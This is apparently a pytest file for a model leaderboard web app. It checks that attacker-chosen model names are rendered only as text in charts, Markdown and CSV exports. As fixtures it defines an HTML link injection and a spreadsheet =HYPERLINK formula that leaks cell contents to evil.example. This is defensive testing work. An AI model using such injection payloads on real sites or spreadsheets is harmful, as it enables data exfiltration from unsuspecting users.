"""Untrusted names are text everywhere (docs/security.md, "Uploads and rendering"): Plotly labels and hover text,
Markdown (no auto-linked URLs), CSV downloads and the grid's own export (no spreadsheet formulas). The demo store
is built once with its two baselines renamed as an attacker would name a model; the leaderboard is then checked in
AppTest and in headless Chromium (no <a> element in the heatmap; the screenshot shows the name as text)."""
from __future__ import annotations

import json

import pandas as pd
import pytest

from pages._ui import WORD_JOINER, csv_bytes, md_code, md_escape, plot_text, sheet_safe
from tests.helpers.browser import chromium_available, chromium_page, screenshot, serve_app, wait_for_app
from tests.helpers.fixtures_store import pages_on

LINK = '<a href="https://evil.example/">CLICK ME</a>'
FORMULA = '=HYPERLINK("https://evil.example/?leak="&A1,"see https://evil.example/")'
DEMO = {"Baseline · majority class (demo)": LINK, "Baseline · random choice, seed 0 (demo)": FORMULA}


def test_plot_text_escapes_what_plotly_reads_as_html():
    assert plot_text(LINK) == '&lt;a href="https://evil.example/">CLICK ME&lt;/a>'
    assert plot_text("R&D <b>") == "R&amp;D &lt;b>"
    assert plot_text(None) == "" and plot_text(float("nan")) == "" and plot_text(3) == "3"


def test_md_escape_breaks_every_auto_link_and_md_code_cannot_be_closed_early():
    out = md_escape("see https://evil.example/x, www.evil.example or a@evil.example")
    assert f"https\\:{WORD_JOINER}//" in out and f"www{WORD_JOINER}\\." in out and f"a{WORD_JOINER}@" in out
    assert md_escape(LINK).replace(WORD_JOINER, "").replace("\\", "") == LINK  # the same text once rendered
    assert md_code("a``b") == "``` a``b ```" and md_code("plain") == "`plain`"


def test_sheet_cells_that_start_a_formula_are_neutralised():
    df = pd.DataFrame({"model": [FORMULA, "+1", "-2", "@SUM(A1)", "\tx", "\rx", "ok", None],
                       "value": [-1.5, 2, 3, 4, 5, 6, 7, 8], "=bad header": list("abcdefgh")})
    safe = sheet_safe(df)
    assert safe["model"].tolist()[:7] == ["'" + FORMULA, "'+1", "'-2", "'@SUM(A1)", "'\tx", "'\rx", "ok"]
    assert safe["value"].tolist()[0] == -1.5 and list(safe.columns)[2] == "'=bad header"
    assert df["model"][0] == FORMULA  # the caller's frame is untouched
    text = csv_bytes(df).decode()
    assert "\n\"'=HYPERLINK(" in text and "\n=" not in text and ",-1.5," in text


@pytest.fixture(scope="module")
def hostile_db(tmp_path_factory):
    """The demo store with its baselines named like an attacker would name them."""
    from services.demo import ensure_default_db
    from store.db import connect

    path = tmp_path_factory.mktemp("render") / "hostile.duckdb"
    con = connect(path)
    assert ensure_default_db(con.cursor())
    tables = [t for (t,) in con.execute("SELECT DISTINCT c.table_name FROM information_schema.columns c "
                                        "JOIN information_schema.tables t USING (table_schema, table_name) "
                                        "WHERE c.column_name = 'model_id' AND t.table_type = 'BASE TABLE'"
                                        ).fetchall()]
    con.execute("BEGIN")
    for old, new in DEMO.items():
        for table in tables:
            con.execute(f'UPDATE "{table}" SET model_id = ? WHERE model_id = ?', [new, old])
    con.execute("COMMIT")
    con.close()
    return path


def test_leaderboard_figure_and_tables_hold_the_names_as_text(hostile_db):
    from tests.helpers.fixtures_store import app_test

    with pages_on(hostile_db):
        at = app_test("leaderboard")
    assert not at.exception
    spec = json.loads(at.get("plotly_chart")[0].proto.spec)
    heatmap = spec["data"][0]
    assert {plot_text(LINK), plot_text(FORMULA)} <= set(heatmap["y"])  # beside the demo run of Gemma 3 270M
    assert "<a" not in json.dumps(spec) and "\\u003ca" not in json.dumps(spec).lower()
    board = at.dataframe[0].value
    assert {LINK, "'" + FORMULA} <= set(board["model"])  # the grid's CSV export gets the neutralised cell


@pytest.mark.skipif(not chromium_available(), reason="Debian chromium / playwright not installed")
def test_chromium_shows_the_names_as_text_with_no_link_and_safe_csv(hostile_db, tmp_path):
    with serve_app(hostile_db) as url, chromium_page(1280, 1400) as page:
        page.goto(url)
        wait_for_app(page, timeout_ms=180000)
        chart = page.locator('[data-testid="stPlotlyChart"]').first
        chart.locator(".ytick text").first.wait_for(timeout=60000)
        ticks = [t.text_content() for t in chart.locator(".ytick text").all()]
        assert LINK in ticks and FORMULA in ticks  # shown literally, tags and all
        assert chart.locator("a").count() == 0  # Plotly made no link out of the name
        chart.scroll_into_view_if_needed()
        page.wait_for_timeout(1000)
        shot = screenshot(page, "render-hostile-names-heatmap")
        button = page.get_by_role("button", name="Download leaderboard-bhasa-en-normalized (CSV)")
        with page.expect_download(timeout=30000) as download:
            button.click()
        saved = tmp_path / "board.csv"
        download.value.save_as(saved)
        board = pd.read_csv(saved)
        assert "'" + FORMULA in board["model"].tolist() and LINK in board["model"].tolist()
        page.goto(f"{url}/compare?task=sentiment&lang=id")
        wait_for_app(page, timeout_ms=120000)
        page.get_by_text("Paired test", exact=False).first.wait_for(timeout=60000)
        assert page.locator('a[href*="evil.example"]').count() == 0  # no auto-linked URL from a name
        assert "CLICK ME</a>" in page.inner_text("body")
        screenshot(page, "render-hostile-names-compare")
    assert shot.stat().st_size > 20000
